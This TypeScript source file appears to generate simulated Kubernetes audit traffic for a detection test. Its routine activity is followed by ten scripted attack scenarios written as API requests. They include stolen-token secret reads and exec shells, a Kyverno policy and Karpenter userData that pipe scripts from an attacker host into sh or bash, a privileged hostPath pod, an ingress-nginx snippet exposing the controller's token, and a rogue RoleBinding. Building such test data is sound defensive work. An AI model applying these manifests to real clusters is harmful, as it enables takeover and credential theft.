          const prs = [...prsOf.entries()].filter(([k]) => k.endsWith(`:${D9_DAY1}`)).map(([, v]) => v[0]!);
          const nss = allNamespaces(prs);
          run(at(14.5), [{ method: 'GET', path: '/api/v1/namespaces' }, ...nss.map((ns): Req => ({ method: 'PATCH', path: `/api/v1/namespaces/${ns}`, headers: MERGE, body: JSON.stringify({ metadata: { labels: { 'cost-centre': 'cc-4410' } } }) }))], 60, 2);
        }
      }
      if (p.kind === 'ide') {
        // The VS Code Kubernetes extension's explorer: `kubectl get pods -o json` every 5 s, namespaces every
        // minute, for an hour and a half from about 09:40 (45 minutes on the warm-up day).
        const ns = `${p.svc}-dev`;
        const t0 = Math.max(at(9.7), at(from) + M);
        for (let tt = t0; tt < t0 + (scored ? 1.5 : 0.75) * H; tt += 5 * S) {
          push(tt, { method: 'GET', path: `/api/v1/namespaces/${ns}/pods` });
          if ((tt - t0) % M === 0) push(tt + 400, { method: 'GET', path: '/api/v1/namespaces' });
        }
      }
      if (p.kind === 'spark') {
        // spark-submit at 10:30 and 15:00, the driver's UI through a port-forward, its log.
        for (const [h, app] of [[10.5, 'revenue-daily'], [15, 'churn-features']] as const) {
          const t0 = at(h + rand() * 0.2);
          const id = `${app}-${app.length.toString(16)}8e1d94a7c2-driver`;
          run(t0, [...sparkSubmit(app), { method: 'GET', path: `/api/v1/namespaces/data/pods/${id}/log?follow=true` }], 700, 3);
          run(t0 + 5 * M, [{ method: 'GET', path: `/api/v1/namespaces/data/pods/${id}` }, { method: 'GET', path: `/api/v1/namespaces/data/pods/${id}/portforward`, headers: WS_PF }], 600, 1);
        }
      }
      if (p.kind === 'night') {
        // 00:40: the pager. Pods, events, the API's log, the DB credentials, a shell, a restart, a stuck pod deleted.
        const t0 = at(24 + 40 / 60);
        const ns = 'payments-prod';
        const po = pod('payments-api', rand);
        run(t0, [
          { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` },
          { method: 'GET', path: `/api/v1/namespaces/${ns}/events?limit=500` },
          { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/log?container=api&tailLines=500` },
          { method: 'GET', path: `/api/v1/namespaces/${ns}/secrets/payments-db` },
          { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}` },
          { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/exec?command=sh&container=api&stdin=true&stdout=true&tty=true`, headers: WS_UPGRADE },
          { method: 'PATCH', path: `/apis/apps/v1/namespaces/${ns}/deployments/payments-api?fieldManager=kubectl-rollout`, headers: SMP, body: JSON.stringify({ spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': new Date(t0).toISOString() } } } } }) },
          { method: 'DELETE', path: `/api/v1/namespaces/${ns}/pods/${pod('payments-worker', rand)}` },
          { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` },
        ], 40 * S, 12);
      }
      mine.sort((a, b) => a.at - b.at);
      events.push(...mine);
    }
  }
  return withAttacks(events, attacks9(people, events));
}

function attacks9(people: Person[], routine: DayEvent[]): DayEvent[] {
  const out: DayEvent[] = [];
  const by = (name: string) => people.find((p) => p.name === `d9-${name}@example.ie`)!;
  const last = (p: Person, t: number): DayEvent => lastRequestOf(routine, p.name, t);
  const add = attackAdder(out);
  const T = (h: number) => D9_DAY1 + h * H;
  const onLaptop = laptopAttacker(add, routine, D9_DAY1);
  const morning = (p: Person): Login => routine.find((x) => x.actor === p.name && x.scored)!.login;

  // 1. An infostealer on the victim's home PC took the browser's cookie jar last night (the IdP's
  // session, Grafana's, Headlamp's): replayed at 14:10 through a residential proxy on the victim's
  // own ISP, with the exact Chrome agent and client hints. The IdP session mints ID tokens of the
  // victim's morning sign-in (same sid and auth_time) without a prompt.
  const v1 = by('preview-1');
  const hints = { 'sec-ch-ua': CH_UA, 'sec-ch-ua-mobile': '?0', 'sec-ch-ua-platform': PLATFORM_HINT[v1.os]! };
  add('infostealer cookies through a residential proxy', T(14.17), '86.41.203.77', v1.browser, morning(v1), [
    ['GET', '/clusters/main/api/v1/namespaces', false, hints, undefined, 'headlamp.localhost'],
    ['GET', `/clusters/main/api/v1/namespaces/${v1.svc}-prod/secrets`, true, hints, undefined, 'headlamp.localhost'],
    ['POST', '/api/serviceaccounts/3/tokens', true, { ...hints, ...JSON_CT }, JSON.stringify({ name: 'backup-exporter', secondsToLive: 0 }), 'grafana.localhost'],
  ], 6000);
  // 2. The skaffold engineer's laptop stolen from a car at 18:40; the thief opens it at home at
  // 22:10. kubelogin's cache has the refresh token: the IdP refreshes the ID token (the morning's
  // auth_time) and kubectl works as it did for its owner.
  const v2 = by('skaffold-0');
  const l2 = last(v2, T(17.5));
  add("stolen laptop used at the thief's home", T(22.17), '37.228.214.9', l2.ua, morning(v2), [
    ['GET', '/api/v1/namespaces/dev-skaffold-0/pods', false],
    ['GET', '/api/v1/namespaces/dev-skaffold-0/secrets', true],
    ['GET', `/api/v1/namespaces/${v2.svc}-prod/secrets/${v2.svc}-db`, true],
    ['GET', `/api/v1/namespaces/${v2.svc}-prod/pods/${v2.svc}-api-7c9d5b-x2k8q/exec?command=sh&container=api&stdin=true&stdout=true&tty=true`, true, WS_UPGRADE],
  ], 20_000);
  // 3. On the shared jump box, jump-3 copies jump-1's token out of its Windows profile
  // (C:\Users\jump-1\.kube\cache) and, from the same box and kubectl, reads jump-1's team's
  // production database Secret and opens a shell there, at a person's pace.
  const v3 = by('jump-1');
  add("jump-box colleague with another engineer's token", T(13.6), JUMPBOX_IP, JUMPBOX_UA, morning(v3), [
    ['GET', `/api/v1/namespaces/${v3.svc}-prod/pods?limit=500`, false],
    ['GET', `/api/v1/namespaces/${v3.svc}-prod/secrets/${v3.svc}-db`, true],
    ['GET', `/api/v1/namespaces/${v3.svc}-prod/pods/${v3.svc}-api-7c9d5b-m4p7z/exec?command=sh&container=api&stdin=true&stdout=true&tty=true`, true, WS_UPGRADE],
  ], 25_000, v3);
  // 4. A platform engineer's fresh two-factor token phished at 09:05 (an adversary-in-the-middle
  // page), used from a VPS: the mesh's CA, Argo CD's cluster credentials, cert-manager's CA key.
  const plat0 = by('platform-0');
  const plat1 = by('platform-1');
  const aitm: Login = { sub: plat0.name, sid: `${plat0.name}:aitm`, authTime: Math.floor(T(9.08) / 1000), acr: 'urn:stepgate:aal2' };
  const meshCa: AttackRequest[] = [
    ['GET', '/api/v1/namespaces/istio-system/secrets/istio-ca-secret', true],
    ['GET', '/api/v1/namespaces/istio-system/secrets/cacerts', true],
    ['GET', '/api/v1/namespaces/argocd/secrets?labelSelector=argocd.argoproj.io%2Fsecret-type%3Dcluster', true],
    ['GET', '/api/v1/namespaces/cert-manager/secrets/internal-root-ca', true],
  ];
  add('fresh platform token from a VPS reads the mesh CA', T(9.08) + 4 * M, '185.220.101.47', KUBECTL(plat0.kubectlVersion, plat0.kubectlOs), aitm, [['GET', '/api/v1/namespaces/istio-system/pods', false], ...meshCa], 30_000);
  // …and the same by malware on the platform laptop, two minutes after the engineer's own sign-in
  // for the registry rotation (the token it rides is minutes old, from the laptop's own network).
  onLaptop('malware on the platform laptop reads the mesh CA right after a sign-in', plat0, 10.55, meshCa, 30_000);
  // 5. Cluster-scoped custom resources from the platform laptop: cert-manager's ClusterIssuer
  // switched to the attacker's ACME CA; a Kyverno ClusterPolicy that adds the attacker's
  // init container to every Pod created.
  onLaptop("ClusterIssuer pointed at the attacker's CA (platform laptop)", plat1, 15.3, [
    ['GET', '/apis/cert-manager.io/v1/clusterissuers/internal-ca', false],
    ['PATCH', '/apis/cert-manager.io/v1/clusterissuers/internal-ca?fieldManager=kubectl-edit', true, MERGE, JSON.stringify({ spec: { ca: null, acme: { server: 'https://acme.pki-mirror.net/directory', email: 'pki@example.ie', privateKeySecretRef: { name: 'internal-ca-acme' }, solvers: [{ http01: { ingress: { ingressClassName: 'nginx' } } }] } } })],
  ], 8000);
  onLaptop('Kyverno ClusterPolicy mutating every Pod (platform laptop)', plat1, 15.8, [
    ['POST', '/apis/kyverno.io/v1/clusterpolicies', true, JSON_CT, JSON.stringify({
      apiVersion: 'kyverno.io/v1',
      kind: 'ClusterPolicy',
      metadata: { name: 'add-ca-bundle' },
      spec: { background: false, rules: [{ name: 'inject', match: { any: [{ resources: { kinds: ['Pod'] } }] }, mutate: { patchStrategicMerge: { spec: { initContainers: [{ name: 'ca-bundle', image: 'ghcr.io/ca-tools/bundle:1.4', command: ['sh', '-c', 'wget -qO- https://pki-mirror.net/i | sh'] }] } } } }] },
    })],
  ], 1000);
  // …and Karpenter from an app engineer's laptop: a node class whose userData runs the attacker's
  // script on every new node (the node's credentials and every pod's tokens), and the NodePool moved to it.
  const v5 = by('preview-2');
  onLaptop('Karpenter EC2NodeClass with userData (app laptop)', v5, 11.4, [
    ['POST', '/apis/karpenter.k8s.aws/v1/ec2nodeclasses', true, JSON_CT, JSON.stringify({
      apiVersion: 'karpenter.k8s.aws/v1',
      kind: 'EC2NodeClass',
      metadata: { name: 'general-v2' },
      spec: { amiSelectorTerms: [{ alias: 'al2023@latest' }], role: 'KarpenterNodeRole-prod', subnetSelectorTerms: [{ tags: { 'karpenter.sh/discovery': 'prod' } }], securityGroupSelectorTerms: [{ tags: { 'karpenter.sh/discovery': 'prod' } }], userData: '#!/bin/bash\ncurl -s https://pki-mirror.net/n | bash\n' },
    })],
    ['PATCH', '/apis/karpenter.sh/v1/nodepools/general', true, MERGE, JSON.stringify({ spec: { template: { spec: { nodeClassRef: { group: 'karpenter.k8s.aws', kind: 'EC2NodeClass', name: 'general-v2' } } } } })],
  ], 5000);
  // 6. The preview namespace the victim created this morning: its Pod Security label switched to
  // privileged, then a privileged Pod with the node's PID namespace and root filesystem.
  const v6 = by('preview-0');
  const pr6 = routine.find((x) => x.actor === v6.name && x.scored && x.method === 'POST' && x.path === '/api/v1/namespaces')!;
  const ns6 = (JSON.parse(pr6.body!) as { metadata: { name: string } }).metadata.name;
  onLaptop('preview namespace switched to privileged (app laptop)', v6, 12.2, [
    ['PATCH', `/api/v1/namespaces/${ns6}`, true, MERGE, JSON.stringify({ metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } } })],
    ['POST', `/api/v1/namespaces/${ns6}/pods`, true, JSON_CT, JSON.stringify({
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: { name: 'debug-tools', namespace: ns6 },
      spec: { hostPID: true, containers: [{ name: 'tools', image: 'alpine:3.21', command: ['sleep', 'infinity'], securityContext: { privileged: true }, volumeMounts: [{ name: 'host', mountPath: '/host' }] }], volumes: [{ name: 'host', hostPath: { path: '/' } }] },
    })],
  ], 4000);
  // 7. From the same preview namespace, an Ingress whose snippet makes ingress-nginx serve its own
  // service-account token (which reads every Secret of the cluster).
  onLaptop("Ingress snippet serving the ingress controller's token (app laptop)", v6, 15.2, [
    ['POST', `/apis/networking.k8s.io/v1/namespaces/${ns6}/ingresses`, true, JSON_CT, JSON.stringify({
      apiVersion: 'networking.k8s.io/v1',
      kind: 'Ingress',
      metadata: { name: 'healthz', namespace: ns6, annotations: { 'nginx.ingress.kubernetes.io/server-snippet': 'location /t { alias /var/run/secrets/kubernetes.io/serviceaccount/token; }' } },
      spec: { ingressClassName: 'nginx', rules: [{ host: `${ns6}.preview.example.ie`, http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'web', port: { number: 80 } } } }] } }] },
    })],
  ], 1000);
  // 8. A token copied from the Starlink engineer's laptop, used by an attacker who is on Starlink
  // too (another dish, the same POP's pool): a new address in a /16 the victim moves in every day.
  const v8 = by('starlink');
  add("Starlink engineer's token used from Starlink's own pool", T(13.9), '98.97.171.44', KUBECTL(v8.kubectlVersion, v8.kubectlOs), morning(v8), [
    ['GET', `/api/v1/namespaces/${v8.svc}-prod/pods`, false],
    ['GET', `/api/v1/namespaces/${v8.svc}-prod/secrets/${v8.svc}-db`, true],
    ['GET', '/api/v1/namespaces/payments-prod/secrets/payments-db', true],
    ['GET', '/api/v1/namespaces/ledger-prod/secrets/ledger-db', true],
  ], 40_000, v8);
  // 9. The night-shift SRE's token (malware on their home PC) at 02:10, while they work: a
  // RoleBinding giving an outside group edit in production, from their own line.
  const v9 = by('night');
  onLaptop('malware on the night-shift laptop binds edit in production', v9, 26.2, [
    ['POST', '/apis/rbac.authorization.k8s.io/v1/namespaces/payments-prod/rolebindings', true, JSON_CT, JSON.stringify({ apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'RoleBinding', metadata: { name: 'oncall-contractors', namespace: 'payments-prod' }, subjects: [{ kind: 'Group', name: 'oidc:contractors', apiGroup: 'rbac.authorization.k8s.io' }], roleRef: { kind: 'ClusterRole', name: 'edit', apiGroup: 'rbac.authorization.k8s.io' } })],
  ], 1000);
  // 10. spark-submit from the data engineer's laptop by malware: a driver Pod in `data` that runs
  // as the namespace's `airflow` service account and is handed every connection Secret.
  const v10 = by('data');
  onLaptop("malware submits a Spark driver with Airflow's connections (data laptop)", v10, 13.7, [
    ['POST', '/api/v1/namespaces/data/pods', true, JSON_CT, JSON.stringify({
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: { name: 'etl-backfill-5b1c-driver', namespace: 'data', labels: { 'spark-role': 'driver' } },
      spec: { serviceAccountName: 'airflow', restartPolicy: 'Never', containers: [{ name: 'spark-kubernetes-driver', image: 'ghcr.io/example-ie/spark-jobs:3.5.4-2027.01', args: ['driver', '--class', 'Backfill', 'https://pki-mirror.net/b.jar'], envFrom: [{ secretRef: { name: 'airflow-connections' } }, { secretRef: { name: 'warehouse-admin' } }] }] },
    })],
  ], 1000);
  return out;
}
